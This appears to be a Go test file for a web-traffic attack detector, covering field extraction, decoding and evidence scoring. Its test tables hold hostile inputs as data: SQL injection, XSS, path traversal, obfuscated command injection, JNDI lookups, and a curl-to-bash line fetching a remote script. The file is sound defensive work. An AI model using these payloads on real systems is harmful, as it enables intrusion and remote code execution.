package model

import (
	"reflect"
	"testing"
)

func TestFields(t *testing.T) {
	t.Parallel()
	type pf struct{ Part, Name, Raw string }
	tests := []struct {
		name string
		req  Request
		want []pf
	}{
		{
			name: "query, headers and cookies",
			req: Request{Method: "GET", URI: "/a/b?x=1&y=%27or&<script>#frag", Headers: [][2]string{
				{"host", "h"}, {"user-agent", "ua"}, {"cookie", "s=abc; t=%3Cb%3E"}, {"content-length", "3"},
			}},
			want: []pf{
				{"path", "", "/a/b"}, {"query", "x", "1"}, {"query", "y", "%27or"}, {"query", "<script>", "<script>"},
				{"header", "user-agent", "ua"}, {"cookie", "s", "abc"}, {"cookie", "t", "%3Cb%3E"},
			},
		},
		{
			name: "a JWT's header and claims split out, in a cookie and in Authorization",
			req: Request{Method: "GET", URI: "/", Headers: [][2]string{
				{"cookie", "auth=eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCIsImtpZCI6ImsxIn0.eyJzdWIiOiJ1NDIiLCJyb2xlIjoidXNlciJ9.c2lnbmF0dXJlLWJ5dGVz"}, {"authorization", "Bearer eyJhbGciOiJub25lIn0.eyJ1aWQiOiI3In0."},
			}},
			want: []pf{
				{"cookie", "auth.jwt.alg", "HS256"}, {"cookie", "auth.jwt.typ", "JWT"}, {"cookie", "auth.jwt.kid", "k1"},
				{"cookie", "auth.jwt.sub", "u42"}, {"cookie", "auth.jwt.role", "user"},
				{"header", "authorization.jwt.alg", "none"}, {"header", "authorization.jwt.uid", "7"},
			},
		},
		{
			name: "other credentials are not scored, a Basic user name is",
			req: Request{Method: "GET", URI: "/", Headers: [][2]string{{"authorization", "Bearer 2YotnFZFEjr1zCsicMWpAA"},
				{"authorization", "Basic dXNlcjpwYXNz"}, {"authorization", "Basic YWRtaW4nIE9SICcxJz0nMSctLSAtOng="}, {"authorization", "Basic !!"},
				{"authorization", `Digest username="Mufasa", realm="http-auth@example.org", uri="/dir/index.html", algorithm=SHA-256, nonce="7ypf/xlj9XXwfDPEoM4URrv/xwf94BcCAzFZH4GiTo0v", nc=00000001, qop=auth, response="753927fa0e85d155564e2e272a28d1802ca10daf4496794697cf8db5856cb6c1", opaque="FQhe/qaU925kfnzjCev0ciny7QMkPqMAFRtzCUYo5tdS"`},
				{"authorization", "AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/iam/aws4_request, SignedHeaders=content-type;host;x-amz-date, Signature=5d672d79c15b13162d9279b0855cfba6789a8edb4c82c400e06b5924a6f2b5d7"},
				{"authorization", "Bearer AAAAAA'or'1'='1"}}},
			want: []pf{{"header", "authorization.username", "user"}, {"header", "authorization.username", "admin' OR '1'='1'-- -"},
				{"header", "authorization.credentials", "!!"}, {"header", "authorization.credentials", "AAAAAA'or'1'='1"}},
		},
		{
			name: "suspicious argument name is scored too",
			req:  Request{URI: "/?a%27b=1"},
			want: []pf{{"query", "a'b", "a%27b"}, {"query", "a'b", "1"}},
		},
		{
			name: "json body flattened with paths",
			req: Request{Method: "POST", URI: "/", Headers: [][2]string{{"content-type", "application/json; charset=utf-8"}},
				Body: []byte(`{"b":{"c":"x","d":[1,"y"]},"a":"z","n":null}`)},
			want: []pf{{"body", "b.c", "x"}, {"body", "b.d[0]", "1"}, {"body", "b.d[1]", "y"}, {"body", "a", "z"}},
		},
		{
			name: "json escapes are undone",
			req: Request{Method: "POST", URI: "/", Headers: [][2]string{{"content-type", "application/json"}},
				Body: []byte(`{"t":"a\"b\\c\/\u003cx\u003e\ud83d\ude00\n","k'":-1.5e3}`)},
			want: []pf{{"body", "t", "a\"b\\c/<x>\U0001F600\n"}, {"body", "k'", "k'"}, {"body", "k'", "-1.5e3"}},
		},
		{
			name: "malformed json is one field",
			req:  Request{Method: "POST", URI: "/", Headers: [][2]string{{"content-type", "application/json"}}, Body: []byte(`{"a":"x",}`)},
			want: []pf{{"body", "", `{"a":"x",}`}},
		},
		{
			name: "json lines are walked line by line",
			req: Request{Method: "POST", URI: "/api/v2/logs", Headers: [][2]string{{"content-type", "text/plain;charset=UTF-8"}},
				Body: []byte("{\"message\":\"console error\",\"n\":1}\n\n{\"message\":\"x\"}\n")},
			want: []pf{{"path", "", "/api/v2/logs"}, {"body", "message", "console error"}, {"body", "n", "1"}, {"body", "message", "x"}},
		},
		{
			name: "json lines with one bad line are one field",
			req:  Request{Method: "POST", URI: "/", Body: []byte("{\"a\":1}\n{\"b\":}")},
			want: []pf{{"body", "", "{\"a\":1}\n{\"b\":}"}},
		},
		{
			name: "form body",
			req:  Request{Method: "POST", URI: "/login", Headers: [][2]string{{"content-type", "application/x-www-form-urlencoded"}}, Body: []byte("u=a&p=b%27")},
			want: []pf{{"path", "", "/login"}, {"body", "u", "a"}, {"body", "p", "b%27"}},
		},
		{
			name: "json without content type is still split",
			req:  Request{Method: "POST", URI: "/", Body: []byte(` {"q":"v"}`)},
			want: []pf{{"body", "q", "v"}},
		},
		{
			name: "other bodies are one field",
			req:  Request{Method: "POST", URI: "/", Headers: [][2]string{{"content-type", "text/csv"}}, Body: []byte("a,b\n1,<x>")},
			want: []pf{{"body", "", "a,b\n1,<x>"}},
		},
		{
			name: "multipart file name is a field",
			req: Request{Method: "POST", URI: "/", Headers: [][2]string{{"content-type", "multipart/form-data; boundary=XX"}},
				Body: []byte("--XX\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../x.php\"\r\n\r\ndata\r\n--XX\r\nContent-Disposition: form-data; name=\"t\"\r\n\r\nhello\r\n--XX--\r\n")},
			want: []pf{{"body", "f.filename", "../../x.php"}, {"body", "t", "hello"}},
		},
		{
			name: "an SVG body is scored by its active parts only",
			req: Request{Method: "PUT", URI: "/logo.svg", Headers: [][2]string{{"content-type", "image/svg+xml"}},
				Body: []byte(`<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0h9"/><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`)},
			want: []pf{{"path", "", "/logo.svg"}, {"body", "svg", `<a href="javascript:alert(1)">`}},
		},
		{
			name: "a multipart part name out of the ordinary is a field",
			req: Request{Method: "POST", URI: "/", Headers: [][2]string{{"content-type", "multipart/form-data; boundary=XX"}},
				Body: []byte("--XX\r\nContent-Disposition: form-data; name=\"cfg$(id)\"\r\n\r\nhello\r\n--XX\r\nContent-Disposition: form-data; name=\"files[0]\"\r\n\r\nhi\r\n--XX--\r\n")},
			want: []pf{{"body", "cfg$(id)", "cfg$(id)"}, {"body", "cfg$(id)", "hello"}, {"body", "files[0]", "hi"}},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			var got []pf
			for _, f := range Fields(&tc.req) {
				got = append(got, pf{f.Part, f.Name, f.Raw})
			}
			if !reflect.DeepEqual(got, tc.want) {
				t.Errorf("got  %q\nwant %q", got, tc.want)
			}
		})
	}
}

func TestNormalize(t *testing.T) {
	t.Parallel()
	tests := []struct {
		raw, want string
		form      bool
		depth     int
	}{
		{raw: "%2527%2520OR", want: "' or", depth: 2},
		{raw: "a+b", want: "a b", form: true, depth: 1},
		{raw: "a+b", want: "a+b"},
		{raw: "&#x3C;script&#62;", want: "<script>"},
		{raw: `\u003cimg\x20src`, want: "<img src"},
		{raw: "%u003cx", want: "<x", depth: 1},
		{raw: "ｓｅｌｅｃｔ＇", want: "select'"},
		{raw: "a%00b", want: "ab", depth: 1},
		{raw: "100%", want: "100%"},
		{raw: "%zz%4", want: "%zz%4"},
		{raw: "0x2e0x2e0x2fetc0x2fpasswd", want: "../etc/passwd"},
		{raw: "..0x5c..0x5cwin.ini", want: `..\..\win.ini`},
		{raw: "0x2f3a4b", want: "0x2f3a4b"},
		{raw: "0x7365", want: "0x7365"},
		{raw: "%c0%2e%c0%2e%c0%2fx", want: "../x", depth: 1},
		{raw: "%e0%80%ae%e0%80%ae/x", want: "../x", depth: 1},
		{raw: "%f0%80%80%ae%f8%80%80%80%ae%fc%80%80%80%80%afetc", want: "../etc", depth: 1},
		{raw: "%c1%9c%e0%81%9c", want: "\\\\", depth: 1},
		{raw: "..%u2215..%u2216x", want: "../..\\x", depth: 1},
		{raw: "%F0%9F%98%80 caf%C3%A9", want: "\U0001F600 café", depth: 1},
		{raw: "1' UN\u200bION SEL\u200bECT pass\u00adword FR\u200dOM users", want: "1' union select password from users"},
		// Escapes inside escapes: percent, then an entity, then percent again.
		{raw: "%2526%252337%253B27", want: "'", depth: 3},
		{raw: "a&#38;lpar;1&#38;rpar;", want: "a(1)"},
		{raw: `\u0025c0%afetc`, want: "/etc", depth: 2},
		// Base64 of text with \v or \f as gaps.
		{raw: "JykpDG9yDGJlbmNobWFyaygxMDAwMDAwMCxNRDUoMSkpIw==", want: "'))\for\fbenchmark(10000000,md5(1))#"},
		// Base64 of text with no-break spaces as gaps: a quarter of its bytes,
		// a seventh of its characters, are not ASCII.
		{raw: "eCfCoEFORMKgbWVtYmVycy5lbWFpbMKgSVPCoE5VTEw7wqAtLQ==", want: "x' and members.email is null; --"},
	}
	for _, tc := range tests {
		f := Field{Raw: tc.raw, formEncoded: tc.form}
		got, st := normalize(&f)
		if got != tc.want || st.depth != tc.depth {
			t.Errorf("normalize(%q) = %q depth %d, want %q depth %d", tc.raw, got, st.depth, tc.want, tc.depth)
		}
	}
}

func TestPrefilter(t *testing.T) {
	t.Parallel()
	tests := []struct {
		f    Field
		skip bool
	}{
		{Field{Part: PartQuery, Raw: "550e8400-e29b-41d4-a716-446655440000"}, true},
		{Field{Part: PartQuery, Raw: "john.doe@example.com"}, true},
		{Field{Part: PartBody, Raw: "12 Harbour Road"}, true},
		{Field{Part: PartBody, Raw: "Please select a date"}, false},
		{Field{Part: PartQuery, Raw: "1 or true"}, false},
		{Field{Part: PartQuery, Raw: "@@version"}, false},
		{Field{Part: PartQuery, Raw: "x--"}, false},
		{Field{Part: PartHeader, Name: "x", Raw: "0x2e0x2e0x5c0x2e0x2e0x5cboot.ini"}, false},
		{Field{Part: PartQuery, Raw: "L2V0Yy9wYXNzd2Q"}, false},
		{Field{Part: PartQuery, Raw: "oJsCdwcVEWgFrZtAfFtwdeESBSMazO8XcTDglsHInGeXx3XSKGD_MANEMgL0egsi"}, true},
		{Field{Part: PartQuery, Raw: "a'b"}, false},
		{Field{Part: PartHeader, Name: "accept", Raw: "text/html,application/xhtml+xml;q=0.9,*/*;q=0.8"}, true},
		{Field{Part: PartHeader, Name: "accept-language", Raw: "en-GB,en;q=0.9"}, true},
		{Field{Part: PartHeader, Name: "accept-language", Raw: "en; id"}, false},
		{Field{Part: PartHeader, Name: "accept", Raw: "../../etc/passwd"}, false},
		{Field{Part: PartHeader, Name: "user-agent", Raw: "text/html"}, false},
		{Field{Part: PartBody, Name: "zip", Raw: "9750+IS", formEncoded: true}, true},
		{Field{Part: PartBody, Name: "id", Raw: "1+or+1", formEncoded: true}, false},
		{Field{Part: PartHeader, Name: "x", Raw: "9750+IS"}, false},
		{Field{Part: PartQuery, Name: "uid", Raw: "%3Cvsid%3E"}, true},
		{Field{Part: PartQuery, Name: "uid", Raw: "<vsid>"}, true},
		{Field{Part: PartQuery, Name: "gdpr", Raw: "${GDPR_CONSENT_755}"}, true},
		{Field{Part: PartQuery, Name: "t", Raw: "[timestamp]"}, true},
		{Field{Part: PartQuery, Name: "cb", Raw: "%%CACHEBUSTER%%"}, true},
		{Field{Part: PartQuery, Name: "q", Raw: "<script>"}, false},
		{Field{Part: PartQuery, Name: "q", Raw: "%3Csvg%3E"}, false},
		{Field{Part: PartQuery, Name: "q", Raw: "<x>"}, false},
		{Field{Part: PartQuery, Name: "q", Raw: "${jndi}"}, false},
		{Field{Part: PartQuery, Name: "q", Raw: "${7*7}"}, false},
		{Field{Part: PartQuery, Name: "q", Raw: "{{config}}"}, false},
		{Field{Part: PartQuery, Name: "q", Raw: "<img src=x onerror=alert(1)>"}, false},
	}
	for _, tc := range tests {
		if got := Prefiltered(&tc.f); got != tc.skip {
			t.Errorf("Prefiltered(%s %q) = %v, want %v", tc.f.Name, tc.f.Raw, got, tc.skip)
		}
	}
}

func TestFieldsByGrammar(t *testing.T) {
	t.Parallel()
	type pf struct{ Part, Name, Raw string }
	tests := []struct {
		name string
		req  Request
		want []pf
	}{
		{
			name: "client hints are structured fields: their strings are the fields",
			req: Request{URI: "/", Headers: [][2]string{
				{"sec-ch-ua", `"Chromium";v="124", "Google Chrome";v="124", "Not-A.Brand";v="99"`},
				{"sec-ch-ua-bitness", `"64"`}, {"sec-ch-ua-mobile", "?0"}, {"sec-ch-ua-model", `""`},
			}},
			want: []pf{{"header", "sec-ch-ua", "Chromium"}, {"header", "sec-ch-ua", "124"}, {"header", "sec-ch-ua", "Google Chrome"},
				{"header", "sec-ch-ua", "124"}, {"header", "sec-ch-ua", "Not-A.Brand"}, {"header", "sec-ch-ua", "99"},
				{"header", "sec-ch-ua-bitness", "64"}},
		},
		{
			name: "a client hint that is not a structured field is scored whole",
			req:  Request{URI: "/", Headers: [][2]string{{"sec-ch-ua-platform", `"Windows"; DROP TABLE x`}}},
			want: []pf{{"header", "sec-ch-ua-platform", `"Windows"; DROP TABLE x`}},
		},
		{
			name: "a payload inside a structured string is still a field",
			req:  Request{URI: "/", Headers: [][2]string{{"sec-ch-ua-model", `"<script>alert(1)</script>"`}}},
			want: []pf{{"header", "sec-ch-ua-model", "<script>alert(1)</script>"}},
		},
		{
			name: "dates that parse are skipped, others are not",
			req:  Request{URI: "/", Headers: [][2]string{{"if-modified-since", "Sun, 06 Nov 1994 08:49:37 GMT"}, {"if-unmodified-since", "' or 1=1--"}}},
			want: []pf{{"header", "if-unmodified-since", "' or 1=1--"}},
		},
		{
			name: "a URL value is scored by its parts",
			req:  Request{URI: "/login?redirect=https%3A%2F%2Fshop.example%2Fcart%3Fitem%3D42%26q%3D%253Cb%253E"},
			want: []pf{{"path", "", "/login"}, {"query", "redirect", "/cart"}, {"query", "redirect?item", "42"}, {"query", "redirect?q", "%3Cb%3E"}},
		},
		{
			name: "referer is a URL",
			req:  Request{URI: "/", Headers: [][2]string{{"referer", "https://www.example.com/search?q=shoes&page=2#top"}}},
			want: []pf{{"header", "referer", "/search"}, {"header", "referer?q", "shoes"}, {"header", "referer?page", "2"}, {"header", "referer#", "top"}},
		},
		{
			name: "a URL with odd characters in its host is one field",
			req:  Request{URI: "/?u=http://a'b.example/"},
			want: []pf{{"query", "u", "http://a'b.example/"}},
		},
		{
			name: "a GraphQL document in a JSON body is scored by its strings",
			req: Request{Method: "POST", URI: "/graphql", Headers: [][2]string{{"content-type", "application/json"}},
				Body: []byte(`{"operationName":"Q","query":"query Q($id: ID!) { user(id: $id) { posts(filter: \"it's ok\") { id } } }","variables":{"id":"42"}}`)},
			want: []pf{{"path", "", "/graphql"}, {"body", "operationName", "Q"}, {"body", "query", "it's ok"}, {"body", "variables.id", "42"}},
		},
		{
			name: "a GraphQL document in a query argument",
			req:  Request{URI: "/graphql?query=%7B%20products(first%3A%2010%2C%20query%3A%20%22title%3Ashirt%22)%20%7B%20id%20%7D%20%7D"},
			want: []pf{{"path", "", "/graphql"}, {"query", "query", "title:shirt"}},
		},
		{
			name: "an application/graphql body",
			req: Request{Method: "POST", URI: "/", Headers: [][2]string{{"content-type", "application/graphql"}},
				Body: []byte("{ search(q: \"<b>\") { id } }")},
			want: []pf{{"body", "", "<b>"}},
		},
		{
			name: "brace expansion is not GraphQL",
			req:  Request{URI: "/?c=%7Bcat,/etc/passwd%7D&d=%7Bid,%7D"},
			want: []pf{{"query", "c", "%7Bcat,/etc/passwd%7D"}, {"query", "d", "%7Bid,%7D"}},
		},
		{
			name: "an XML body is walked by element path",
			req: Request{Method: "POST", URI: "/", Headers: [][2]string{{"content-type", "text/xml; charset=utf-8"}},
				Body: []byte(`<?xml version="1.0" encoding="utf-8"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetQuote xmlns="http://tempuri.org/"><symbol kind="stock">MSFT &amp; O&apos;Neill</symbol><!-- c --><empty/></GetQuote></soap:Body></soap:Envelope>`)},
			want: []pf{{"body", "Envelope@soap", "/soap/envelope/"}, {"body", "Envelope.Body.GetQuote.symbol@kind", "stock"}, {"body", "Envelope.Body.GetQuote.symbol", "MSFT & O'Neill"}, {"body", "Envelope.Body.GetQuote!--", " c "}},
		},
		{
			name: "text split by child elements is also scored whole",
			req: Request{Method: "POST", URI: "/", Headers: [][2]string{{"content-type", "application/xml"}},
				Body: []byte(`<r><id>1' UNI<i/>ON SEL<i/>ECT</id></r>`)},
			want: []pf{{"body", "r.id", "1' UNI"}, {"body", "r.id", "ON SEL"}, {"body", "r.id", "ECT"}, {"body", "#text", "1' UNION SELECT"}},
		},
		{
			name: "a declaration with anything but version, encoding and standalone is not split",
			req: Request{Method: "POST", URI: "/", Headers: [][2]string{{"content-type", "application/xml"}},
				Body: []byte(`<?xml 1' UNION SELECT 1-- -?><a/>`)},
			want: []pf{{"body", "", `<?xml 1' UNION SELECT 1-- -?><a/>`}},
		},
		{
			name: "a form body that begins like XML is a form",
			req: Request{Method: "POST", URI: "/", Headers: [][2]string{{"content-type", "application/x-www-form-urlencoded"}},
				Body: []byte(`<?xml &id=1%27+OR+1%3D1&z= ?><a/>`)},
			want: []pf{{"body", "<?xml ", "<?xml "}, {"body", "id", "1%27+OR+1%3D1"}, {"body", "z", " ?><a/>"}},
		},
		{
			name: "a namespace value is a field",
			req: Request{Method: "POST", URI: "/", Headers: [][2]string{{"content-type", "application/xml"}},
				Body: []byte(`<a xmlns:x="1' UNION SELECT 1-- -"/>`)},
			want: []pf{{"body", "a@x", "1' UNION SELECT 1-- -"}},
		},
		{
			name: "query is GraphQL only on a GraphQL route",
			req:  Request{URI: "/search?query=%7B%20a%20UNION%20SELECT%20password%20FROM%20users%20%7D"},
			want: []pf{{"path", "", "/search"}, {"query", "query", "%7B%20a%20UNION%20SELECT%20password%20FROM%20users%20%7D"}},
		},
		{
			name: "CDATA and a declaration are fields",
			req: Request{Method: "POST", URI: "/", Headers: [][2]string{{"content-type", "application/xml"}},
				Body: []byte(`<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r><v><![CDATA[1' or '1'='1]]></v></r>`)},
			want: []pf{{"body", "!", `DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]`}, {"body", "r.v", "1' or '1'='1"}},
		},
		{
			name: "XML that carries HTML is scored whole",
			req: Request{Method: "POST", URI: "/", Headers: [][2]string{{"content-type", "application/xml"}},
				Body: []byte(`<r><x onload="alert(1)">y</x></r>`)},
			want: []pf{{"body", "", `<r><x onload="alert(1)">y</x></r>`}},
		},
		{
			name: "malformed XML is scored whole",
			req: Request{Method: "POST", URI: "/", Headers: [][2]string{{"content-type", "application/xml"}},
				Body: []byte(`<r><a>1</b></r>`)},
			want: []pf{{"body", "", `<r><a>1</b></r>`}},
		},
		{
			name: "base64 of an XML document is walked",
			req:  Request{URI: "/acs?SAMLResponse=PD94bWwgdmVyc2lvbj0iMS4wIj8%2BPHI%2BPHE%2BaGk8L3E%2BPC9yPg%3D%3D"},
			want: []pf{{"path", "", "/acs"}, {"query", "SAMLResponse.r.q", "hi"}},
		},
		{
			name: "base64 of JSON in a query value is walked",
			req:  Request{URI: "/feed?cursor=eyJvZmZzZXQiOjQwLCJ0YWciOiIxJyBPUiAnMSc9JzEifQ%3D%3D"},
			want: []pf{{"path", "", "/feed"}, {"query", "cursor.offset", "40"}, {"query", "cursor.tag", "1' OR '1'='1"}},
		},
		{
			name: "JSON in a query value is walked",
			req:  Request{URI: "/e?d=%7B%22a%22%3A%22x%22%2C%22b%22%3A%5B1%2C%22y%22%5D%7D"},
			want: []pf{{"path", "", "/e"}, {"query", "d.a", "x"}, {"query", "d.b[0]", "1"}, {"query", "d.b[1]", "y"}},
		},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			var got []pf
			for _, f := range Fields(&tc.req) {
				got = append(got, pf{f.Part, f.Name, f.Raw})
			}
			if !reflect.DeepEqual(got, tc.want) {
				t.Errorf("got  %q\nwant %q", got, tc.want)
			}
		})
	}
}

func TestSFItems(t *testing.T) {
	t.Parallel()
	tests := []struct {
		in   string
		want []string
		ok   bool
	}{
		{`"64"`, []string{"64"}, true},
		{`?1`, nil, true},
		{`u=0, i`, []string{"i"}, true},
		{`max-age=0, no-cache`, []string{"no-cache"}, true},
		{`"a";v="1", "b\"c";v="2"`, []string{"a", "1", `b"c`, "2"}, true},
		{`("a" "b");x=1, tok/en`, []string{"a", "b", "tok/en"}, true},
		{`:aGVsbG8=:`, nil, true},
		{`"unterminated`, nil, false},
		{`"a" "b"`, nil, false},
		{`<script>`, nil, false},
	}
	for _, tc := range tests {
		got, ok := sfItems(tc.in)
		if ok != tc.ok || (ok && !reflect.DeepEqual(got, tc.want)) {
			t.Errorf("sfItems(%q) = %q, %v; want %q, %v", tc.in, got, ok, tc.want, tc.ok)
		}
	}
}

// The attack shapes the model may score below its novelty floor, and
// look-alikes from real traffic that must stay shapeless.
func TestEvidenceShapes(t *testing.T) {
	t.Parallel()
	tests := []struct {
		raw      string
		evidence bool
	}{
		{";/usr/bin/id", true},
		{"||/usr/bin/id|", true},
		{"a);/usr/bin/id", true},
		{`\n/bin/ls -al\n`, true},
		{`\nid|`, true},
		{"/etc/fstab", true},
		{"/apache/logs/error_log", true},
		{`\windows\system32\config\sam`, true},
		{"0x2e0x2e0x2fwp-config.php", true},
		{"/etc/designs/site/logo.png", false},
		{"/etc/designs/site/", false},
		{"/dev/api/v1/items", false},
		{"/products/shoes/red", false},
		{"a;type=sync", false},
		{"/lib/jquery.min.js", false},
		{"0x2f3a4b", false},
		// Written-out SQL without a quote in front.
		{"select * from pg_shadow;", true},
		{"select name from sysibm.systables;", true},
		{"select @@version", true},
		{"create table myfile (input TEXT);", true},
		{"1 ORDER BY 3#", true},
		{"%0AORDER%0ABY%0A30%0A", true},
		{"exec master..xp_cmdshell 'dir'", true},
		{"1or1=1", true},
		{"Select from the menu", false},
		{"order by price", false},
		{"delete from the list please", false},
		// Glued shell words and command lines.
		{"a)|i''d;", true},
		{"& i$@d", true},
		{"&&{,}sleep{,}5", true},
		{"cat /etc/hosts", true},
		{"ls%0C-L%0C%2FETc%2F", true},
		{"cat toys for sale", false},
		{"echo chamber", false},
		// Traversal with its escapes' "%" lost, by file name, by base64.
		{"..2f..2f..2fetc2fpasswd", true},
		{"\\logs\\access.log", true},
		{"/web/conf/php.ini", true},
		{"//etc/mailman/mm_cfg.py", true},
		{"Li4vLi4vLi4vLi4vZXRjL3Bhc3N3ZA==", true},
		{"Li4vLi4vLi4vLi4vZXRjL3Bhc3N3ZA", true},
		{"convert.iconv.IBM037.IBM256", true},
		{"${jndi:ldap://x/a}", true},
		{"copy myfile from '/etc/passwd';", true},
		{"copy this from page 3", false},
		{"%5Els%20-la", true},
		{"%7C%0Bid", true},
		{"curl https://x.example/.testing/rce.txt", true},
		{"tYPe+c:%5CwInNT%5CrepaiR%5Csam", true},
		{"type of shoes", false},
		{"PGltZ8Kgc3JjXHgxMj14wqBvbmVycm9yPSJqYXZhc2NyaXB0OmFsZXJ0KDEpIj4%3D", true},
		{"1 or 2=3", true},
		{"x' and 1=2-- ", true},
		{"0=9058,1=7897,2=1956", false},
		{"${7*7}", true},
		{"/ddm/trackimp/N3282.B2;ord=[timestamp];gdpr=$%7BGDPR%7D;gdpr_consent=$%7BGDPR_CONSENT_755%7D", false},
		{"aHR0cHM6Ly9zaG9wLmV4YW1wbGUvY2FydA==", false},
		{"dGhlIHF1aWNrIGJyb3duIGZveA", false},
		{"oJsCdwcVEWgFrZtAfFtwdeESBSMazO8XcTDglsHInGeXx3XSKGD_MANEMgL0egsi", false},
		// Command words a shell joins back: quotes inside a word,
		// variables set on the line, globs only one host file matches.
		{"example.com;c'a't /e't'c/pa\"ss\"wd", true},
		{"site-backup;a=c;b=at;$a$b /etc/hostname", true},
		{"x;/???/??t /???/p??s??", true},
		{"example.com;{curl,-s,http://203.0.113.5/x.sh}|{bash,-i}", true},
		{"fields=id,name;friends={id,name}", false},
		{"log.txt&%COMSPEC:~-7,3%%ProgramFiles:~10,1%/c%ProgramFiles:~10,1%whoami", true},
		{"Progress: 40%, ETA ~10 min, 60% left", false},
		{"rock'n'roll tour 2024", false},
		{"Is it really? ???", false},
		// A lone ampersand between English words is prose, even when the
		// word after it is also a command; with an argument it is not.
		{"1-800-FLOWERS? no - it was \"Flowers & More\"", false},
		{"Tom & cat", false},
		{"Shoes, bags & more please", false},
		{"x & cat /etc/passwd", true},
		{"a && more", true},
	}
	for _, tc := range tests {
		f := Field{Part: PartQuery, Name: "q", Raw: tc.raw}
		fv := make([]float64, NumFeatures)
		FieldFeatures(&f, fv)
		if got := fv[fEvidence] > 0; got != tc.evidence {
			t.Errorf("%q: evidence %v, want %v", tc.raw, fv[fEvidence], tc.evidence)
		}
	}
	for _, tc := range []struct {
		path     string
		evidence bool
	}{
		{"/Li4vLi4vZXRjL3Bhc3N3ZA==/bid_empty", true},
		{"/track.gif/L3Vzci9sb2NhbC9hcGFjaGUvbG9ncy9hY2Nlc3NfbG9nDQo=", true},
		{"/img/select%20version_timestamp%20from%20sysibm.sysversions;", true},
		{"/select%0Ccurrent_database();/js", true},
		{"/select/items/3", false},
		{"/shop/select/from/list", false},
		{"/s/montserrat/v26/JTUHjIg1_i6t8kCHKm4532VJOt5-QNFgpCtr6Hw5aXp-obK4.woff2", false},
		{"/dist/mobile/vendors~eventemitter.43b3187e86b5f9f87ea6.js", false},
	} {
		f := Field{Part: PartPath, Raw: tc.path}
		fv := make([]float64, NumFeatures)
		FieldFeatures(&f, fv)
		if got := fv[fEvidence] > 0; got != tc.evidence {
			t.Errorf("path %q: evidence %v, want %v", tc.path, fv[fEvidence], tc.evidence)
		}
	}
}

func TestMarkupEntities(t *testing.T) {
	t.Parallel()
	tests := []struct {
		s    string
		want int
	}{
		{"<p>You'll get an invite shortly &mdash; let me know&hellip;</p>", 0},
		{"caf&eacute; &nbsp;&rsquo;", 0},
		{"&lt;script&gt;", 2},
		{"&#60;img src=x onerror=alert(1)&#x3e;", 2},
		{"Tom &amp; Jerry", 1},
		{"a & b", 1},
		{"&mdash", 1}, // without its ";" a browser may still decode it; it counts
	}
	for _, tc := range tests {
		if got := markupEntities(tc.s); got != tc.want {
			t.Errorf("markupEntities(%q) = %d, want %d", tc.s, got, tc.want)
		}
	}
}

func TestExpandCmdSubstrings(t *testing.T) {
	t.Parallel()
	tests := []struct {
		in, want string
		ok       bool
	}{
		{"%COMSPEC:~-7,3%", "cmd", true},
		{"a&%comspec:~-7,3%%ProgramFiles:~10,1%/c%ProgramFiles:~10,1%whoami", "a&cmd /c whoami", true},
		{"%SystemRoot:~3%", "WINDOWS", true},
		{"%PATHEXT:~0,-49%", ".COM", true},
		{"%OS:~99,2%", "", true},
		{"%MYAPP:~0,3%", "", false},
		{"50%:~ off", "", false},
		{"%COMSPEC:~x,3%", "", false},
	}
	for _, tc := range tests {
		got, ok := expandCmdSubstrings(tc.in)
		if got != tc.want || ok != tc.ok {
			t.Errorf("expandCmdSubstrings(%q) = %q, %v; want %q, %v", tc.in, got, ok, tc.want, tc.ok)
		}
	}
}
